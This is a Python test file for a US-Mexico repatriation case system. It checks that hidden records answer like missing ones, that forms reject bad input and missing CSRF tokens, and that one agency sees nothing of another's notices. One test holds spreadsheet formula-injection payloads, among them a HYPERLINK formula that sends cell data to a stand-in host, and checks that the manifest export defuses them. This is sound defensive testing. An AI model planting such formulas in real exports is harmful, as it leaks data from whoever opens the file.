"""Attacks on repatriation by the partners and by agencies that are no party: a movement one may not
see answers byte for byte like one that never existed (API and pages, every step); the pages' forms
refuse bad input with the one error page, not a server error; a manifest exported to a spreadsheet
runs no formula the sender typed; the consulate sees no trace of the departure notice it is not sent;
and a verification cannot be rewritten once the people have left."""

from __future__ import annotations

import re
from datetime import timedelta

import pytest
from sqlalchemy import func, select

from binational.access import service as access
from binational.audit.models import AuditEntry
from binational.db import act_as_system
from binational.repatriation import casefiles, manifest
from binational.repatriation.models import Movement
from tests.conftest import sequence_audit
from tests.repatriation.conftest import acting, build_week, run_to_lock, sign_in
from tests.repatriation.test_confidentiality import _full_flow

API = "/api/v1"
MISSING = "mov_" + "0" * 24
#: what differs between two answers of one page whatever the data: the CSRF token, script nonces
VOLATILE = re.compile(r'(name="csrf" value="|nonce="|data-csrf="|"csrf": ")[^"]*')
CSRF = re.compile(r'name="csrf" value="([^"]+)"')
STEPS = {  # the API's steps on a movement, each with a body that passes its shape
    "respond": {"decision": "accept"}, "accept-counter": None, "assign": {"detainee_ids": ["us-ice.case-adult0"]},
    "verification": None, "verify": {"line_nos": [1], "outcome": "verified", "document_number": "X",
                                     "valid_until": "2030-01-01"},
    "lock": None, "strike": {"line_no": 1, "code": "no_show"}, "board": None, "depart": None,
    "receive": {"counts": {"adults": 1}, "receiving_officer": "X", "hour": 10}, "reconcile": None,
    "criminal-notice": {"line_no": 1, "basis": "warrant", "reference": "X"},
}
PAGE_STEPS = ("accept", "refuse", "counter", "accept_counter", "verification", "verify", "lock", "board", "depart",
              "receive", "reconcile", "strike", "no-such-step")


def _same(hidden, missing, ident: str, what: object, statuses: tuple[int, ...] = (404,)) -> None:
    assert hidden.status_code == missing.status_code in statuses, (what, hidden.status_code, missing.status_code)
    assert VOLATILE.sub("", hidden.text) == VOLATILE.sub("", missing.text.replace(MISSING, ident)), what


def test_a_hidden_movement_answers_the_api_like_one_that_never_was(db, client, parties, cast):
    week = build_week(db)
    run_to_lock(db, week)
    land = week.movements["land"]
    for who in ("outsider", "us_analyst", "mx_analyst"):
        h = cast[who].headers
        for suffix in ("", "/manifest.csv"):
            _same(client.get(f"{API}/repatriation/movements/{land}{suffix}", headers=h),
                  client.get(f"{API}/repatriation/movements/{MISSING}{suffix}", headers=h), land, (who, suffix))
        for step, body in STEPS.items():
            hidden = client.post(f"{API}/repatriation/movements/{land}/{step}", headers=h, json=body)
            missing = client.post(f"{API}/repatriation/movements/{MISSING}/{step}", headers=h, json=body)
            assert hidden.status_code == missing.status_code in (403, 404), (who, step, hidden.text)
            assert hidden.text == missing.text.replace(MISSING, land), (who, step)
    # nothing of it was changed
    r = client.get(f"{API}/repatriation/movements/{land}", headers=parties["ice"].headers)
    assert r.json()["state"] == "accepted"


def test_a_hidden_movement_answers_the_pages_like_one_that_never_was(db, client, web_parties, cast):
    week = build_week(db)
    land = week.movements["land"]
    sign_in(client, "mx_analyst")
    token = CSRF.search(client.get("/repatriation").text)
    assert token
    _same(client.get(f"/repatriation/movements/{land}"), client.get(f"/repatriation/movements/{MISSING}"),
          land, "page")
    bad = {"line_no": "²", "valid_until": "not-a-date", "start_hour": "9" * 5000, "hour": "x"}
    for step in PAGE_STEPS:
        for form in ({}, bad):
            hidden, missing = (client.post(f"/repatriation/movements/{ident}/{step}", follow_redirects=False,
                                           data={"csrf": token.group(1), **form}) for ident in (land, MISSING))
            _same(hidden, missing, land, (step, form), (403, 404))


@pytest.mark.parametrize("form", [
    {"line_no": "1", "document_number": "MX-1", "valid_until": "not-a-date"},
    {"line_no": "1", "document_number": "M" * 65, "valid_until": "2030-01-01"},
    {"line_no": "²", "document_number": "MX-1", "valid_until": "2030-01-01"},
    {"line_no": "9" * 5000, "document_number": "MX-1", "valid_until": "2030-01-01"},
])
def test_bad_input_on_the_consulates_form_is_refused_and_writes_nothing(db, client, web_parties, form):
    week = build_week(db)
    land = week.movements["land"]
    with acting(db, "inm") as (s, actor):
        from binational.repatriation import service
        service.respond(session=s, actor=actor, movement_id=land, decision="accept")
    with acting(db, "ice") as (s, actor):
        manifest.assign(session=s, actor=actor, movement_id=land, detainee_ids=[week.cases["adult0"]])
        manifest.request_verification(session=s, actor=actor, movement_id=land)
    sign_in(client, "sre")
    token = CSRF.search(client.get(f"/repatriation/movements/{land}").text)
    r = client.post(f"/repatriation/movements/{land}/verify", follow_redirects=False,
                    data={"csrf": token.group(1), "outcome": "verified", **form})
    assert r.status_code == 422, r.text[:300]
    assert 'data-testid="error"' in r.text
    with acting(db, "sre") as (s, actor):
        lines = manifest.view(s, actor, s.get(Movement, land))["manifest"]
    assert [line["verification"] for line in lines] == ["pending"]


def test_a_bad_number_on_the_receivers_forms_is_refused(db, client, web_parties):
    week = build_week(db)
    land = week.movements["land"]
    sign_in(client, "inm")
    token = CSRF.search(client.get(f"/repatriation/movements/{land}").text)
    for value in ("²", "9" * 5000, "1e3"):
        r = client.post(f"/repatriation/movements/{land}/counter", follow_redirects=False,
                        data={"csrf": token.group(1), "start_hour": value, "end_hour": "15"})
        assert r.status_code == 422, (value, r.text[:300])
    with acting(db, "inm") as (s, _actor):
        assert s.get(Movement, land).state == "proposed"


def test_a_form_without_its_token_changes_nothing(db, client, web_parties):
    week = build_week(db)
    land = week.movements["land"]
    sign_in(client, "inm")
    r = client.post(f"/repatriation/movements/{land}/accept", follow_redirects=False, data={})
    assert r.status_code == 403
    r = client.post(f"/repatriation/movements/{land}/accept", follow_redirects=False, data={"csrf": "forged"})
    assert r.status_code == 403
    with acting(db, "inm") as (s, _actor):
        assert s.get(Movement, land).state == "proposed"


def test_the_manifest_export_runs_no_formula_the_sender_typed(db, client, parties):
    week = build_week(db)
    land = week.movements["land"]
    formulas = ['=HYPERLINK("http://example.invalid/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1:A2)"]
    with acting(db, "inm") as (s, actor):
        from binational.repatriation import service
        service.respond(session=s, actor=actor, movement_id=land, decision="accept")
    with acting(db, "ice") as (s, actor):
        ids = [casefiles.create(session=s, actor=actor, data={
            "name": name, "sex": "M", "birth_date": "1990-01-01", "nationality": "MX", "order_type": "final_removal",
            "order_final_on": (week.monday - timedelta(days=40)).isoformat(),
            "ready_date": (week.monday - timedelta(days=3)).isoformat()}).id for name in formulas]
        assert manifest.assign(session=s, actor=actor, movement_id=land, detainee_ids=ids)["added"] == ids
    for who in ("inm", "sre", "ice"):
        r = client.get(f"{API}/repatriation/movements/{land}/manifest.csv", headers=parties[who].headers)
        assert r.status_code == 200
        cells = [row.split(",", 2)[1] for row in r.text.splitlines()[1:]]
        assert cells and all(not cell.lstrip('"').startswith(("=", "+", "-", "@")) for cell in cells), (who, cells)
    # each download is audited as an export of the movement, not as a read
    sequence_audit(db)
    with db.unit_of_work() as s:
        act_as_system(s)
        exports = s.execute(select(AuditEntry.actor_agency, AuditEntry.entry)
                            .where(AuditEntry.action == "repatriation.export")).all()
        reads = s.execute(select(func.count()).select_from(AuditEntry)
                          .where(AuditEntry.action == "repatriation.read")).scalar_one()
    assert sorted(agency for agency, _entry in exports) == ["MX-INM", "MX-SRE", "US-ICE"]
    assert all(land in entry and '"lines":4' in entry.replace(" ", "") for _agency, entry in exports)
    assert reads == 0


def test_reconciling_is_a_change_a_reader_may_not_make(db, client, parties):
    week = _full_flow(db, client, parties)
    land = week.movements["land"]
    with db.unit_of_work() as s:
        act_as_system(s)
        reader = access.add_user(session=s, username="inm_reader", agency="MX-INM", roles=["liaison"],
                                 clearance="TLP:AMBER")
        _row, secret = access.create_token(session=s, user=reader, days=1)
    r = client.post(f"{API}/repatriation/movements/{land}/reconcile", headers={"Authorization": f"Bearer {secret}"})
    assert r.status_code == 403 and r.json()["error"]["code"] == "forbidden", r.text
    assert client.post(f"{API}/repatriation/movements/{land}/reconcile",
                       headers=parties["inm"].headers).status_code == 200


def test_the_consulate_sees_no_trace_of_the_departure_notice(db, client, parties):
    week = _full_flow(db, client, parties)
    land = week.movements["land"]
    with acting(db, "ice") as (s, _actor):
        receipt = s.get(Movement, land).receipt
    departure = re.search(r'"departure_request": "([^"]+)"', receipt).group(1)
    assert client.get(f"{API}/requests/{departure}", headers=parties["sre"].headers).status_code == 404
    for path in (f"{API}/repatriation/movements/{land}", f"{API}/repatriation/movements",
                 f"{API}/repatriation/statistics"):
        r = client.get(path, headers=parties["sre"].headers)
        assert r.status_code == 200 and departure not in r.text, path


def test_a_verification_is_not_rewritten_once_the_people_have_left(db, client, parties):
    week = _full_flow(db, client, parties)
    land = week.movements["land"]
    before = client.get(f"{API}/repatriation/movements/{land}", headers=parties["inm"].headers).json()["manifest"]
    r = client.post(f"{API}/repatriation/movements/{land}/verify", headers=parties["sre"].headers,
                    json={"line_nos": [1], "outcome": "rejected"})
    assert r.status_code == 422 and r.json()["error"]["details"] == [{"field": "state"}], r.text
    after = client.get(f"{API}/repatriation/movements/{land}", headers=parties["inm"].headers).json()["manifest"]
    assert after == before


def test_an_agency_no_party_to_an_arrangement_learns_nothing_of_it(db, client, parties, cast):
    build_week(db)
    for who in ("outsider", "us_analyst", "mx_analyst"):
        h = cast[who].headers
        answers = {}
        for arrangement in ("us-mx-2016", "no-such-arrangement"):
            proposal = {"arrangement": arrangement, "mode": "land", "point": "tijuana-chaparral",
                        "date": "2030-01-07", "start_hour": 8, "end_hour": 17, "capacity": 5}
            plan = {"arrangement": arrangement, "date_from": "2030-01-07", "date_to": "2030-01-13"}
            answers[arrangement] = [client.post(f"{API}/repatriation/movements", headers=h, json=proposal),
                                    client.post(f"{API}/repatriation/plan", headers=h, json=plan)]
        for real, never in zip(answers["us-mx-2016"], answers["no-such-arrangement"], strict=True):
            assert real.status_code == never.status_code, (who, real.text, never.text)
            assert real.text == never.text.replace("no-such-arrangement", "us-mx-2016"), who
            assert "US-ICE" not in real.text and "mx-gt" not in real.text.lower(), (who, real.text)
        assert client.get(f"{API}/repatriation/arrangements", headers=h).json() == [], who


@pytest.mark.parametrize(("field", "value"), [("receiving_officer", "R" * 201), ("child_welfare_officer", "W" * 201),
                                              ("certificates", "C" * 65), ("out_of_hours_reason", "x" * 2001)])
def test_an_oversized_receipt_from_the_page_is_refused_and_writes_nothing(db, client, web_parties, field, value):
    week = build_week(db)
    land = week.movements["land"]
    run_to_lock(db, week)
    with acting(db, "ice") as (s, actor):
        casefiles.record_fact(session=s, actor=actor, detainee_id=week.cases["counsel"], fact="counsel_notified",
                              value=True)
        assert manifest.lock(session=s, actor=actor, movement_id=land)["locked"]
        manifest.board(session=s, actor=actor, movement_id=land)
        manifest.depart(session=s, actor=actor, movement_id=land)
    sign_in(client, "inm")
    token = CSRF.search(client.get(f"/repatriation/movements/{land}").text)
    form = {"csrf": token.group(1), "receiving_officer": "Oficial Ruiz", "child_welfare_officer": "DIF", "hour": "10",
            field: value}
    r = client.post(f"/repatriation/movements/{land}/receive", follow_redirects=False, data=form)
    assert r.status_code == 422, r.text[:300]
    with acting(db, "inm") as (s, _actor):
        assert s.get(Movement, land).state == "departed"
